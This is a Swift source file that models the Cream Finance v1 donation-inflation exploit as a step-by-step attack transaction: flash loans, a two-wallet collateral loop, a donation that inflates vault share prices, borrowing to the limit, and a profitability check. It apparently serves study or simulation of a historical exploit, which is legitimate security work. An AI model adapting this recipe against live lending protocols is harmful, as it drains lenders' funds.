import ProtocolModel

/// Cream Finance v1 (27 Oct 2021): a lending market values vault shares at the vault's price
/// per share, which a plain transfer to the vault (a donation) raises. The attacker's two
/// accounts — its own, A, and a wallet contract B it calls in the same transaction — build a
/// share collateral claim far larger than the vault's share supply, then donate to the vault and
/// borrow everything the inflated collateral allows. One transaction, in order:
///
/// 1. flash-borrow `deposit` + `donation` of the underlying and `collateral` of the collateral
///    asset (each from its provider, when it has one);
/// 2. A deposits `deposit` into the vault and posts the shares in the market;
/// 3. B posts `collateral` of the collateral asset (sent by A) and, `loops` times, borrows every
///    share the market holds and hands them to A, who posts them too — A's share collateral
///    grows by the market's share cash each time, B's share debt with it;
/// 4. B borrows the shares once more and redeems them at the vault, which shrinks the vault's
///    share supply back to its other holders' while A's collateral claim stays; B hands the
///    underlying to A;
/// 5. A sends `donation` of the underlying to the vault — under the `balance` accounting rule
///    the price per share rises by donation / (the vault's value) and A's collateral with it;
/// 6. A borrows the most it can of each asset of `borrow`, in order;
/// 7. the flash loans are repaid and — with `revertIfUnprofitable` — the transaction reverts
///    unless A ends with no less of every asset it touched than it began with.
///
/// B's share debt is worth as much more as A's collateral, so B's position is left under water
/// and both are walked away from; the lenders bear what A borrowed. Two accounts are needed
/// because the donation raises a share debt exactly as much as a share collateral: on one
/// account the gains would cancel. A borrow that finds no borrowing power left (amount 0)
/// reverts the transaction: list the flash-loaned assets first in `borrow`.
public struct DonationInflation: Sendable, Equatable {
    /// Vault index.
    public var vault: Int
    /// The vault's underlying (deposited, redeemed and donated).
    public var underlying: AssetID
    /// The vault's share asset (listed in the market, collateral and borrowable).
    public var share: AssetID
    /// The vault's account: where the donation goes.
    public var vaultAccount: AccountID
    /// Lending-market index.
    public var market: Int
    /// The wallet contract B (owned by the attacker's account).
    public var wallet: AccountID
    /// The asset B posts as collateral for its share debt (ETH in the record).
    public var collateralAsset: AssetID
    /// Raw `collateralAsset` B posts.
    public var collateral: UInt128
    /// Raw underlying deposited into the vault.
    public var deposit: UInt128
    /// Borrow-and-repost rounds before the final borrow that is redeemed (≥ 0).
    public var loops: Int
    /// Raw underlying donated to the vault.
    public var donation: UInt128
    /// The assets A borrows at the end, in order, each up to its borrowing power.
    public var borrow: [AssetID]
    /// Flash loan of the underlying (deposit + donation); nil: paid from own capital.
    public var underlyingLoan: AttackFlashLoan?
    /// Flash loan of the collateral asset; nil: paid from own capital.
    public var collateralLoan: AttackFlashLoan?
    public var revertIfUnprofitable: Bool

    public init(vault: Int, underlying: AssetID, share: AssetID, vaultAccount: AccountID, market: Int, wallet: AccountID,
                collateralAsset: AssetID, collateral: UInt128, deposit: UInt128, loops: Int, donation: UInt128, borrow: [AssetID],
                underlyingLoan: AttackFlashLoan?, collateralLoan: AttackFlashLoan?, revertIfUnprofitable: Bool) {
        precondition(loops >= 0, "a non-negative number of loops")
        self.vault = vault
        self.underlying = underlying
        self.share = share
        self.vaultAccount = vaultAccount
        self.market = market
        self.wallet = wallet
        self.collateralAsset = collateralAsset
        self.collateral = collateral
        self.deposit = deposit
        self.loops = loops
        self.donation = donation
        self.borrow = borrow
        self.underlyingLoan = underlyingLoan
        self.collateralLoan = collateralLoan
        self.revertIfUnprofitable = revertIfUnprofitable
    }

    /// The attack's one transaction, sent by `account` (A). O(loops + borrow).
    public func steps(account: AccountID) -> [Step] {
        func asWallet(_ step: Step) -> Step { .walletCall(wallet: wallet, step: step) }
        let loans = [(underlyingLoan, deposit + donation), (collateralLoan, collateral)].compactMap { loan, amount in
            loan.map { ($0, amount) }
        }
        var steps = loans.map { loan, amount in Step.flashBorrow(provider: loan.provider, asset: loan.asset, amount: .exact(amount)) }
        steps += [
            .vaultDeposit(vault: vault, amount: .exact(deposit)),
            .deposit(market: market, asset: share, amount: .balance(share)),
            .transfer(asset: collateralAsset, amount: .exact(collateral), to: wallet),
            asWallet(.deposit(market: market, asset: collateralAsset, amount: .received(collateralAsset))),
        ]
        for _ in 0..<loops {
            steps += [
                asWallet(.borrow(market: market, asset: share, amount: .maxBorrow(market: market, asset: share))),
                asWallet(.transfer(asset: share, amount: .received(share), to: account)),
                .deposit(market: market, asset: share, amount: .balance(share)),
            ]
        }
        steps += [
            asWallet(.borrow(market: market, asset: share, amount: .maxBorrow(market: market, asset: share))),
            asWallet(.vaultWithdraw(vault: vault, shares: .received(share))),
            asWallet(.transfer(asset: underlying, amount: .received(underlying), to: account)),
            .transfer(asset: underlying, amount: .exact(donation), to: vaultAccount),
        ]
        steps += borrow.map { .borrow(market: market, asset: $0, amount: .maxBorrow(market: market, asset: $0)) }
        steps += loans.map { loan, _ in
            .flashRepay(provider: loan.provider, asset: loan.asset, amount: .flashDebt(provider: loan.provider, asset: loan.asset))
        }
        if revertIfUnprofitable {
            var touched: [AssetID] = []
            for asset in [underlying, collateralAsset] + borrow where !touched.contains(asset) { touched.append(asset) }
            steps += touched.map { .requireGain(asset: $0, atLeast: 0) }
        }
        return steps
    }
}
